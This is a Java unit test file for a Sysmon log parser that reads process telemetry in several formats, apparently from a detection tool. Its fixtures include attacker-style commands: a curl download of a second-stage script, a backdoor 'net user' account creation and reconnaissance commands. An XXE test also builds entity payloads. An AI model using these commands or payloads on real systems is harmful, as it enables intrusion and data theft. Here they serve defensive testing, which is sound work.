package io.runwatch.core.telemetry.sysmon;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.runwatch.core.ingest.ErrorKind;
import io.runwatch.core.ingest.IngestError;
import io.runwatch.core.model.HostExecution;
import io.runwatch.core.model.RecordRef;
import io.runwatch.core.model.TelemetryFormat;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.stream.Collectors;
import javax.xml.stream.XMLStreamException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SysmonParserTest {
  private static final String SSM_LINUX =
      "/var/lib/amazon/ssm/i-0a1b2c3d4e5f60718/document/orchestration/"
          + "1b2c3d4e-0000-4000-8000-000000000001/awsrunShellScript/0.awsrunShellScript";
  private static final String POWERSHELL =
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  private static final String RUN_COMMAND =
      "C:\\Packages\\Plugins\\Microsoft.CPlat.Core.RunCommandWindows\\1.1.18";
  private static final String SSM_WINDOWS =
      "C:\\ProgramData\\Amazon\\SSM\\InstanceData\\i-0f1e2d3c4b5a69788\\document\\orchestration\\"
          + "8c7d6e5f-0000-4000-8000-000000000002\\awsrunPowerShellScript\\0.awsrunPowerShellScript";

  private final SysmonParser parser = new SysmonParser();

  // ---- Sysmon for Linux in syslog -------------------------------------------------------------

  @Test
  void linuxSyslogSsmRunCommandShellAndItsChild() {
    Heard h = Heard.parseFixture("linux-syslog-ssm.log");

    assertThat(h.executions).hasSize(3);
    HostExecution sh = h.executions.get(0);
    assertThat(sh)
        .isEqualTo(
            new HostExecution(
                "web-01",
                Instant.parse("2024-11-18T03:07:14.215Z"),
                24817L,
                24790L,
                "/usr/bin/sh",
                "sh -c " + SSM_LINUX + "/_script.sh",
                "root",
                "/usr/bin/ssm-document-worker",
                "/usr/bin/ssm-document-worker"
                    + " 1b2c3d4e-0000-4000-8000-000000000001.i-0a1b2c3d4e5f60718",
                SSM_LINUX,
                TelemetryFormat.SYSMON_LINUX,
                "{8e1f3a52-b0f6-673a-3c8d-1d2e9f550000}",
                new RecordRef("linux-syslog-ssm.log", 0, -1)));

    HostExecution curl = h.executions.get(1);
    assertThat(curl.image()).isEqualTo("/usr/bin/curl");
    assertThat(curl.commandLine())
        .isEqualTo("curl -fsS -o /tmp/.cache-update http://198.51.100.23/stage2.sh");
    assertThat(curl.pid()).isEqualTo(24819L);
    assertThat(curl.ppid()).as("its parent is the SSM shell").isEqualTo(sh.pid());
    assertThat(curl.parentImage()).isEqualTo("/usr/bin/sh");
    assertThat(curl.parentCommandLine()).isEqualTo(sh.commandLine());
    assertThat(curl.time()).isEqualTo(Instant.parse("2024-11-18T03:07:14.297Z"));
    assertThat(curl.origin().index()).isEqualTo(1);
  }

  @Test
  void linuxSyslogCronJobFromAnRfc5424LineWithEscapedAmpersands() {
    HostExecution cron = Heard.parseFixture("linux-syslog-ssm.log").executions.get(2);
    assertThat(cron.image()).isEqualTo("/usr/bin/dash");
    assertThat(cron.commandLine())
        .isEqualTo("/bin/sh -c    cd / && run-parts --report /etc/cron.hourly");
    assertThat(cron.parentImage()).isEqualTo("/usr/sbin/cron");
    assertThat(cron.parentCommandLine()).isEqualTo("/usr/sbin/CRON -f -P");
    assertThat(cron.currentDirectory()).isEqualTo("/root");
    assertThat(cron.time()).isEqualTo(Instant.parse("2024-11-18T03:17:01.002Z"));
    assertThat(cron.eventId()).isEqualTo("{8e1f3a52-b2ad-673a-9c31-2e7df4550000}");
    assertThat(cron.origin()).isEqualTo(new RecordRef("linux-syslog-ssm.log", 5, -1));
  }

  @Test
  void linuxSyslogOtherEventsAreHeardAndOtherDaemonsSkipped() {
    Heard h = Heard.parseFixture("linux-syslog-ssm.log");
    assertThat(h.heard)
        .containsExactly(
            new Heard.Host("web-01", Instant.parse("2024-11-18T03:07:14.339Z")), // 3 network
            new Heard.Host("web-01", Instant.parse("2024-11-18T03:07:14.402Z")), // 5 terminate
            new Heard.Host("web-01", Instant.parse("2024-11-18T03:21:02.013Z"))); // 23 delete
    // systemd and amazon-ssm-agent lines are not Sysmon records: not counted.
    assertThat(h.records).isEqualTo(8).isEqualTo(h.reported());
  }

  @Test
  void linuxSyslogBrokenAndCutLinesAreLocatedErrorsAndReadingGoesOn() {
    Heard h = Heard.parseFixture("linux-syslog-ssm.log");
    assertThat(h.errors).hasSize(2);

    IngestError broken = h.errors.get(0);
    assertThat(broken.kind()).isEqualTo(ErrorKind.MALFORMED_JSON);
    assertThat(broken.where()).isEqualTo(new RecordRef("linux-syslog-ssm.log", 4, -1));
    assertThat(broken.message()).startsWith("line 7: not well-formed XML");

    IngestError cut = h.errors.get(1);
    assertThat(cut.kind()).isEqualTo(ErrorKind.TRUNCATED);
    assertThat(cut.where().index()).isEqualTo(6);
    assertThat(cut.message()).startsWith("line 9:");

    // The cron job after the broken line and the file deletion after the cut one were read.
    assertThat(h.executions.get(2).origin().index()).isEqualTo(5);
    assertThat(h.heard).hasSize(3);
  }

  // ---- Sysmon for Windows exported as XML -----------------------------------------------------

  @Test
  void wevtutilExportWithEventsBackToBackOnOneLine() {
    Heard h = Heard.parseFixture("windows-wevtutil-runcommand.xml");
    assertThat(h.records).isEqualTo(4);
    assertThat(h.errors).isEmpty();
    assertThat(h.executions).hasSize(2);

    assertThat(h.executions.get(0))
        .isEqualTo(
            new HostExecution(
                "app-vm-07",
                Instant.parse("2024-11-18T10:02:31.445Z"),
                5384L,
                4120L,
                POWERSHELL,
                "powershell -ExecutionPolicy Unrestricted -File "
                    + RUN_COMMAND
                    + "\\Downloads\\script0.ps1",
                "NT AUTHORITY\\SYSTEM",
                RUN_COMMAND + "\\bin\\RunCommandExtension.exe",
                "\"" + RUN_COMMAND + "\\bin\\RunCommandExtension.exe\" -enable",
                RUN_COMMAND + "\\Downloads\\",
                TelemetryFormat.SYSMON_WINDOWS,
                "{3a7c1e55-1f47-673b-6a02-000000000b00}",
                new RecordRef("windows-wevtutil-runcommand.xml", 0, -1)));

    HostExecution whoami = h.executions.get(1);
    assertThat(whoami.image()).isEqualTo("C:\\Windows\\System32\\whoami.exe");
    assertThat(whoami.commandLine()).isEqualTo("\"C:\\Windows\\system32\\whoami.exe\" /all");
    assertThat(whoami.ppid()).isEqualTo(5384L);
    assertThat(whoami.parentImage()).isEqualTo(POWERSHELL);

    assertThat(h.heard)
        .containsExactly(
            new Heard.Host("app-vm-07", Instant.parse("2024-11-18T10:02:33.871Z")),
            new Heard.Host("app-vm-07", Instant.parse("2024-11-18T10:02:35.111Z")));
  }

  @Test
  void prettyPrintedEventsExportSkipsRenderingInfoAndOtherProviders() {
    Heard h = Heard.parseFixture("windows-events-ssm-pretty.xml");
    // Sysmon 1, Security 4688 (skipped, not counted), Sysmon 1, Sysmon 22.
    assertThat(h.records).isEqualTo(3);
    assertThat(h.errors).isEmpty();
    assertThat(h.executions).hasSize(2);

    HostExecution ps = h.executions.get(0);
    assertThat(ps.host()).isEqualTo("EC2AMAZ-4RT7Q2L");
    assertThat(ps.format()).isEqualTo(TelemetryFormat.SYSMON_WINDOWS);
    assertThat(ps.time()).isEqualTo(Instant.parse("2024-11-18T14:22:05.901Z"));
    assertThat(ps.commandLine())
        .isEqualTo(
            POWERSHELL
                + " -InputFormat None -Noninteractive -NoProfile -ExecutionPolicy unrestricted -f "
                + SSM_WINDOWS
                + "\\_script.ps1");
    assertThat(ps.parentImage())
        .isEqualTo("C:\\Program Files\\Amazon\\SSM\\ssm-document-worker.exe");
    assertThat(ps.parentCommandLine())
        .isEqualTo(
            "\"C:\\Program Files\\Amazon\\SSM\\ssm-document-worker.exe\""
                + " 8c7d6e5f-0000-4000-8000-000000000002.i-0f1e2d3c4b5a69788");
    assertThat(ps.pid()).isEqualTo(3316L);
    assertThat(ps.ppid()).isEqualTo(2808L);
    assertThat(ps.currentDirectory()).isEqualTo(SSM_WINDOWS + "\\");

    HostExecution net = h.executions.get(1);
    assertThat(net.image()).isEqualTo("C:\\Windows\\System32\\net.exe");
    assertThat(net.commandLine())
        .isEqualTo("\"C:\\Windows\\system32\\net.exe\" user svc-backup Winter2024! /add");
    assertThat(net.origin().index()).isEqualTo(1);

    assertThat(h.heard)
        .containsExactly(
            new Heard.Host("EC2AMAZ-4RT7Q2L", Instant.parse("2024-11-18T14:22:06.402Z")));
  }

  // ---- JSON from forwarders -------------------------------------------------------------------

  @Test
  void winlogbeatRawAndEcsProcessedDocuments() {
    Heard h = Heard.parseFixture("winlogbeat-ssm-session.ndjson");
    assertThat(h.executions).hasSize(2);

    HostExecution session = h.executions.get(0);
    assertThat(session)
        .isEqualTo(
            new HostExecution(
                "EC2AMAZ-9K2L7QX",
                Instant.parse("2024-11-18T09:41:07.510Z"),
                7140L,
                6904L,
                POWERSHELL,
                "powershell",
                "EC2AMAZ-9K2L7QX\\ssm-user",
                "C:\\Program Files\\Amazon\\SSM\\ssm-session-worker.exe",
                "\"C:\\Program Files\\Amazon\\SSM\\ssm-session-worker.exe\""
                    + " sso-admin-0d2c8f1e9a7b6c5d4 i-0c9d8e7f6a5b4c3d2",
                "C:\\Windows\\system32\\",
                TelemetryFormat.SYSMON_WINDOWS,
                "{6c0e2b17-0b43-673b-5a01-000000001600}",
                new RecordRef("winlogbeat-ssm-session.ndjson", 0, -1)));

    // Through the Elastic ingest pipeline: Image, CommandLine, pids... live in ECS process.*.
    HostExecution nltest = h.executions.get(1);
    assertThat(nltest)
        .isEqualTo(
            new HostExecution(
                "EC2AMAZ-9K2L7QX",
                Instant.parse("2024-11-18T09:41:52.230Z"),
                2264L,
                7140L,
                "C:\\Windows\\System32\\nltest.exe",
                "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts",
                "EC2AMAZ-9K2L7QX\\ssm-user",
                POWERSHELL,
                "powershell",
                "C:\\Windows\\system32\\",
                TelemetryFormat.SYSMON_WINDOWS,
                "{6c0e2b17-0b70-673b-6101-000000001600}",
                new RecordRef("winlogbeat-ssm-session.ndjson", 1, -1)));
  }

  @Test
  void winlogbeatOtherEventsHeardSecurityLogSkippedBrokenLineLocated() {
    Heard h = Heard.parseFixture("winlogbeat-ssm-session.ndjson");
    assertThat(h.heard)
        .containsExactly(
            new Heard.Host("EC2AMAZ-9K2L7QX", Instant.parse("2024-11-18T09:41:51.540Z")),
            new Heard.Host("EC2AMAZ-9K2L7QX", Instant.parse("2024-11-18T09:43:00.098Z")));
    assertThat(h.errors)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.kind()).isEqualTo(ErrorKind.MALFORMED_JSON);
              assertThat(e.where())
                  .isEqualTo(new RecordRef("winlogbeat-ssm-session.ndjson", 3, -1));
              assertThat(e.message()).startsWith("line 5: not JSON");
            });
    // 6 lines: the Security-log logon (4624) is another provider's, not counted.
    assertThat(h.records).isEqualTo(5).isEqualTo(h.reported());
  }

  @Test
  void nxlogFlatJsonTakesThePidFromTheMessageNotTheSysmonServicePid() {
    Heard h = Heard.parseFixture("nxlog-ssm.ndjson");
    assertThat(h.records).isEqualTo(3);

    HostExecution ps = h.executions.get(0);
    assertThat(ps.host()).isEqualTo("DB-WIN-01");
    // ProcessID 2436 is Sysmon's own pid (the event header); NXLog dropped EventData ProcessId.
    assertThat(ps.pid()).isEqualTo(4876L);
    assertThat(ps.ppid()).isEqualTo(5120L);
    // EventTime (17:05:41) is the collector's local time; UtcTime is the truth.
    assertThat(ps.time()).isEqualTo(Instant.parse("2024-11-18T16:05:41.332Z"));
    assertThat(ps.image()).isEqualTo(POWERSHELL);
    assertThat(ps.commandLine())
        .endsWith(
            "\\orchestration\\5e4d3c2b-0000-4000-8000-000000000003"
                + "\\awsrunPowerShellScript\\0.awsrunPowerShellScript\\_script.ps1");
    assertThat(ps.user()).isEqualTo("NT AUTHORITY\\SYSTEM");
    assertThat(ps.parentImage())
        .isEqualTo("C:\\Program Files\\Amazon\\SSM\\ssm-document-worker.exe");
    assertThat(ps.eventId()).isEqualTo("{c2f7a913-6f45-673b-2a07-000000002100}");
    assertThat(ps.format()).isEqualTo(TelemetryFormat.SYSMON_WINDOWS);

    assertThat(h.heard)
        .containsExactly(new Heard.Host("DB-WIN-01", Instant.parse("2024-11-18T16:05:43.018Z")));

    assertThat(h.errors)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.kind()).isEqualTo(ErrorKind.MISSING_FIELD);
              assertThat(e.field()).isEqualTo("Image");
              assertThat(e.where()).isEqualTo(new RecordRef("nxlog-ssm.ndjson", 2, -1));
              assertThat(e.message()).startsWith("line 3:");
            });
  }

  @Test
  void evtxDumpJsonLinesInBothAttributeLayouts() {
    Heard h = Heard.parseFixture("evtx-dump-ssm.jsonl");
    assertThat(h.records).isEqualTo(2);
    assertThat(h.errors).isEmpty();
    HostExecution ps = h.executions.get(0);
    assertThat(ps.host()).isEqualTo("EC2AMAZ-4RT7Q2L");
    assertThat(ps.pid()).as("a JSON number").isEqualTo(3316L);
    assertThat(ps.ppid()).isEqualTo(2808L);
    assertThat(ps.commandLine()).endsWith(SSM_WINDOWS + "\\_script.ps1");
    assertThat(ps.time()).isEqualTo(Instant.parse("2024-11-18T14:22:05.901Z"));
    assertThat(h.heard)
        .containsExactly(
            new Heard.Host("EC2AMAZ-4RT7Q2L", Instant.parse("2024-11-18T14:22:06.402Z")));
  }

  @Test
  void journaldJsonCarryingTheXmlInMessage() {
    String xml =
        linuxEvent(
            1,
            "<Data Name=\"UtcTime\">2024-11-18 03:07:14.215</Data>"
                + "<Data Name=\"Image\">/usr/bin/id</Data><Data Name=\"CommandLine\">id -u</Data>");
    String line =
        "{\"_HOSTNAME\":\"web-01\",\"SYSLOG_IDENTIFIER\":\"sysmon\",\"MESSAGE\":\""
            + xml.replace("\"", "\\\"")
            + "\"}";
    Heard h = Heard.parse(line);
    assertThat(h.errors).isEmpty();
    assertThat(h.executions)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.image()).isEqualTo("/usr/bin/id");
              assertThat(e.commandLine()).isEqualTo("id -u");
              assertThat(e.format()).isEqualTo(TelemetryFormat.SYSMON_LINUX);
            });
  }

  @Test
  void elasticsearchHitsAndTheAzureMonitorSyslogTable() {
    String firstWinlogbeatLine =
        Heard.read("winlogbeat-ssm-session.ndjson").lines().findFirst().get();
    String hit =
        "{\"_index\":\".ds-logs-windows.sysmon_operational-default\",\"_id\":\"x1\","
            + "\"_source\":"
            + firstWinlogbeatLine
            + "}";
    String xml = linuxEvent(1, "<Data Name=\"Image\">/usr/bin/id</Data>");
    String logAnalytics =
        "{\"TimeGenerated\":\"2024-01-01T12:00:01Z\",\"Computer\":\"web-01\",\"ProcessName\":"
            + "\"sysmon\",\"SyslogMessage\":\""
            + xml.replace("\"", "\\\"")
            + "\"}";
    Heard h = Heard.parse(hit + "\n" + logAnalytics);
    assertThat(h.errors).isEmpty();
    assertThat(h.executions)
        .extracting(HostExecution::image, HostExecution::format)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(POWERSHELL, TelemetryFormat.SYSMON_WINDOWS),
            org.assertj.core.groups.Tuple.tuple("/usr/bin/id", TelemetryFormat.SYSMON_LINUX));
    assertThat(h.executions.get(0))
        .usingRecursiveComparison()
        .ignoringFields("origin")
        .isEqualTo(Heard.parseFixture("winlogbeat-ssm-session.ndjson").executions.get(0));
  }

  @Test
  void nxlogJsonSentOverSyslog() {
    String line =
        "<14>1 2024-11-18T17:05:41.738171+01:00 DB-WIN-01 Microsoft-Windows-Sysmon 2436 LOG - "
            + "{\"EventTime\":\"2024-11-18 17:05:41\",\"Hostname\":\"DB-WIN-01\",\"EventID\":1,"
            + "\"SourceName\":\"Microsoft-Windows-Sysmon\",\"RecordNumber\":1,"
            + "\"UtcTime\":\"2024-11-18 16:05:41.332\",\"Image\":\"C:\\\\Windows\\\\cmd.exe\","
            + "\"ProcessId\":\"77\"}";
    Heard h = Heard.parse(line);
    assertThat(h.executions)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.image()).isEqualTo("C:\\Windows\\cmd.exe");
              assertThat(e.pid()).isEqualTo(77L);
            });
  }

  // ---- bad input ------------------------------------------------------------------------------

  @Test
  void processStartWithoutImageOrTimeIsAnErrorNamingTheField() {
    Heard h =
        Heard.parse(
            String.join(
                "\n",
                "x sysmon: "
                    + linuxEvent(1, "<Data Name=\"UtcTime\">2024-01-01 12:00:00.123</Data>"),
                "x sysmon: " + linuxEventWithoutTime(1, "<Data Name=\"Image\">/usr/bin/id</Data>"),
                "x sysmon: "
                    + linuxEvent(
                        1,
                        "<Data Name=\"UtcTime\">yesterday</Data><Data Name=\"Image\">/bin/a</Data>"),
                "x sysmon: "
                    + linuxEvent(1, "<Data Name=\"UtcTime\">2024-01-01 12:00:00.123</Data>")
                        .replace(
                            "<Data Name=\"UtcTime\">",
                            "<Data Name=\"Image\">/bin/b</Data>" + "<Data Name=\"UtcTime\">")));
    assertThat(h.errors)
        .extracting(IngestError::kind, IngestError::field, e -> e.where().index())
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(ErrorKind.MISSING_FIELD, "EventData/Image", 0L),
            org.assertj.core.groups.Tuple.tuple(ErrorKind.MISSING_FIELD, "EventData/UtcTime", 1L),
            org.assertj.core.groups.Tuple.tuple(ErrorKind.INVALID_FIELD, "EventData/UtcTime", 2L));
    assertThat(h.executions)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.image()).isEqualTo("/bin/b");
              assertThat(e.time()).isEqualTo(Instant.parse("2024-01-01T12:00:00.123Z"));
              assertThat(e.origin().index()).isEqualTo(3);
            });
    assertThat(h.records).isEqualTo(4);
  }

  @Test
  void otherEventsNeedATimeToBeHeard() {
    String network = "<Data Name=\"Image\">/usr/bin/curl</Data>";
    Heard h =
        Heard.parse(
            linuxEventWithoutTime(3, network)
                + "\n"
                + linuxEvent(3, "<Data Name=\"UtcTime\">soon</Data>" + network)
                + "\n"
                + linuxEventWithoutTime(
                    3, "<Data Name=\"UtcTime\">2024-01-01 12:00:09.000</Data>"));
    assertThat(h.errors)
        .extracting(IngestError::kind, IngestError::field)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(
                ErrorKind.MISSING_FIELD, "System/TimeCreated/@SystemTime"));
    // An unreadable UtcTime falls back to the header time; a lone UtcTime is enough.
    assertThat(h.heard)
        .containsExactly(
            new Heard.Host("web-01", Instant.parse("2024-01-01T12:00:00.5Z")),
            new Heard.Host("web-01", Instant.parse("2024-01-01T12:00:09Z")));
  }

  @Test
  void withoutUtcTimeTheHeaderTimeIsUsed() {
    String ev =
        linuxEvent(1, "<Data Name=\"Image\">/usr/bin/id</Data>")
            .replace("2024-01-01T12:00:00.500000000Z", "2024-01-01T12:00:07.250000000Z");
    assertThat(Heard.parse(ev).executions)
        .singleElement()
        .extracting(HostExecution::time)
        .isEqualTo(Instant.parse("2024-01-01T12:00:07.25Z"));
  }

  @Test
  void hostComesFromComputerElseTheDefaultElseAnError() {
    String noComputer =
        linuxEvent(1, "<Data Name=\"Image\">/usr/bin/id</Data>")
            .replace("<Computer>web-01</Computer>", "<Computer></Computer>");
    assertThat(Heard.parse(parser, "f", noComputer, "i-0abc").executions)
        .singleElement()
        .extracting(HostExecution::host)
        .isEqualTo("i-0abc");
    Heard h = Heard.parse(noComputer);
    assertThat(h.errors)
        .singleElement()
        .extracting(IngestError::kind, IngestError::field)
        .containsExactly(ErrorKind.MISSING_FIELD, "System/Computer");
  }

  @Test
  void eventIdThatIsNotANumberIsAnInvalidField() {
    Heard h =
        Heard.parse(linuxEvent(1, "").replace("<EventID>1</EventID>", "<EventID>one</EventID>"));
    assertThat(h.errors)
        .singleElement()
        .extracting(IngestError::kind, IngestError::field)
        .containsExactly(ErrorKind.INVALID_FIELD, "System/EventID");
  }

  @Test
  void controlCharactersInACommandLineDoNotMakeTheEventUnreadable() {
    String ev =
        linuxEvent(
            1,
            "<Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -c 'x\u0001y'</Data>");
    assertThat(Heard.parse("h sysmon: " + ev).executions)
        .singleElement()
        .extracting(HostExecution::commandLine)
        .isEqualTo("bash -c 'x\uFFFDy'");
  }

  @Test
  void anOversizedEventIsReportedAndTheNextOneRead() {
    String big =
        linuxEvent(
            1,
            "<Data Name=\"Image\">/usr/bin/a</Data><Data Name=\"CommandLine\">"
                + "A".repeat(5000)
                + "</Data>");
    String small = linuxEvent(1, "<Data Name=\"Image\">/usr/bin/b</Data>");
    Heard h = Heard.parse(new SysmonParser(2000), "f", big + small + "\n" + small, null);
    assertThat(h.errors)
        .singleElement()
        .extracting(IngestError::kind)
        .isEqualTo(ErrorKind.RECORD_TOO_LARGE);
    assertThat(h.executions)
        .extracting(HostExecution::image)
        .containsExactly("/usr/bin/b", "/usr/bin/b");
  }

  @Test
  void anEventCutAtTheEndOfTheInputIsTruncated() {
    String ev = linuxEvent(1, "<Data Name=\"Image\">/usr/bin/id</Data>");
    Heard h = Heard.parse(ev.substring(0, ev.length() - 20));
    assertThat(h.errors)
        .singleElement()
        .extracting(IngestError::kind)
        .isEqualTo(ErrorKind.TRUNCATED);
  }

  @Test
  void aBrokenEventOfAnotherProviderIsNotOurs() {
    String other =
        linuxEvent(1, "<Data Name=\"Image\">/usr/bin/id</Dta>")
            .replace("Linux-Sysmon\"", "Microsoft-Windows-Security-Auditing\"");
    Heard h = Heard.parse(other);
    assertThat(h.records).isZero();
  }

  // ---- recognizes -----------------------------------------------------------------------------

  @ParameterizedTest
  @ValueSource(
      strings = {
        "linux-syslog-ssm.log",
        "windows-wevtutil-runcommand.xml",
        "windows-events-ssm-pretty.xml",
        "winlogbeat-ssm-session.ndjson",
        "nxlog-ssm.ndjson",
        "evtx-dump-ssm.jsonl"
      })
  void recognizesEveryFixtureFromItsHead(String fixture) {
    String text = Heard.read(fixture);
    assertThat(parser.recognizes(text.substring(0, Math.min(4096, text.length())))).isTrue();
  }

  @Test
  void recognizesNoOtherFormat() throws IOException, URISyntaxException {
    String cloudTrail =
        Files.readString(
            Path.of(
                getClass()
                    .getResource("/events/aws/sendcommand-three-instances-panther.json")
                    .toURI()));
    String osquery =
        "{\"name\":\"process_events\",\"hostIdentifier\":\"web-01\",\"calendarTime\":\"Mon Nov 18"
            + " 03:07:14 2024 UTC\",\"unixTime\":1731899234,\"columns\":{\"pid\":\"24817\","
            + "\"path\":\"/usr/bin/sh\",\"cmdline\":\"sh -c /tmp/x.sh\",\"parent\":\"24790\"},"
            + "\"action\":\"added\"}";
    String auditd =
        "type=SYSCALL msg=audit(1731899234.215:4711): arch=c000003e syscall=59 success=yes exit=0"
            + " a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=24790 pid=24817 auid=4294967295 uid=0"
            + " gid=0 euid=0 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"exec\"";
    // An SSM status event whose command installs Sysmon mentions it, but names no provider.
    String installsSysmon =
        "{\"detail-type\":\"EC2 Command Status-change Notification\",\"detail\":{\"parameters\":"
            + "{\"commands\":[\"sysmon -accepteula -i; journalctl -t sysmon | grep Linux-Sysmon\"]}}}";
    assertThat(parser.recognizes(cloudTrail)).isFalse();
    assertThat(parser.recognizes(osquery)).isFalse();
    assertThat(parser.recognizes(auditd)).isFalse();
    assertThat(parser.recognizes(installsSysmon)).isFalse();
    assertThat(parser.recognizes("")).isFalse();
  }

  @Test
  void formatIsTheFamilysFirstMember() {
    assertThat(parser.format()).isEqualTo(TelemetryFormat.SYSMON_LINUX);
  }

  // ---- XML external entities ------------------------------------------------------------------

  @Test
  void externalEntitiesAreNeverResolved(@TempDir Path dir) throws IOException {
    Path secret = dir.resolve("secret.txt");
    Files.writeString(secret, "TOP-SECRET-7f3a9c", StandardCharsets.UTF_8);
    String uri = secret.toUri().toString();
    String doctype = "<!DOCTYPE Event [<!ENTITY xxe SYSTEM \"" + uri + "\">]>";
    String event =
        linuxEvent(
            1, "<Data Name=\"Image\">/usr/bin/id</Data><Data Name=\"CommandLine\">&xxe;</Data>");

    // Through the parser, DOCTYPE on the line before the event and on the same line.
    for (String text :
        new String[] {
          "<?xml version=\"1.0\"?>\n" + doctype + "\n" + event + "\n",
          "x sysmon: " + doctype + event + "\n"
        }) {
      Heard h = Heard.parse(text);
      assertThat(h.executions).isEmpty();
      assertThat(h.errors)
          .singleElement()
          .satisfies(
              e -> {
                assertThat(e.kind()).isEqualTo(ErrorKind.MALFORMED_JSON);
                assertThat(e.message()).doesNotContain("TOP-SECRET");
              });
    }

    // The XML reader itself, handed the whole document with its DTD.
    SysmonXml xml = new SysmonXml();
    assertThatThrownBy(() -> xml.read(doctype + event))
        .isInstanceOf(XMLStreamException.class)
        .satisfies(t -> assertThat(t.getMessage()).doesNotContain("TOP-SECRET"));
    // A parameter entity and an internal-entity bomb are refused the same way.
    String parameter =
        "<!DOCTYPE Event [<!ENTITY % p SYSTEM \"" + uri + "\"> %p;]>" + event.replace("&xxe;", "x");
    String bomb =
        "<!DOCTYPE Event [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>"
            + event.replace("&xxe;", "&b;");
    for (String doc : new String[] {parameter, bomb}) {
      try {
        SysmonEvent read = xml.read(doc);
        assertThat(read.data().values().stream().collect(Collectors.joining()))
            .doesNotContain("TOP-SECRET")
            .doesNotContain("aaaaaaaaaa");
      } catch (XMLStreamException e) {
        assertThat(e.getMessage()).doesNotContain("TOP-SECRET");
      }
    }
  }

  // ---- helpers --------------------------------------------------------------------------------

  /** A Sysmon for Linux event as outputxml.cpp writes it, with the given EventData children. */
  static String linuxEvent(int id, String data) {
    return "<Event><System><Provider Name=\"Linux-Sysmon\""
        + " Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/><EventID>"
        + id
        + "</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
        + "<Keywords>0x8000000000000000</Keywords>"
        + "<TimeCreated SystemTime=\"2024-01-01T12:00:00.500000000Z\"/>"
        + "<EventRecordID>7</EventRecordID><Correlation/>"
        + "<Execution ProcessID=\"1187\" ThreadID=\"1187\"/>"
        + "<Channel>Linux-Sysmon/Operational</Channel><Computer>web-01</Computer>"
        + "<Security UserId=\"0\"/></System><EventData>"
        + data
        + "</EventData></Event>";
  }

  private static String linuxEventWithoutTime(int id, String data) {
    return linuxEvent(id, data)
        .replace("<TimeCreated SystemTime=\"2024-01-01T12:00:00.500000000Z\"/>", "");
  }
}
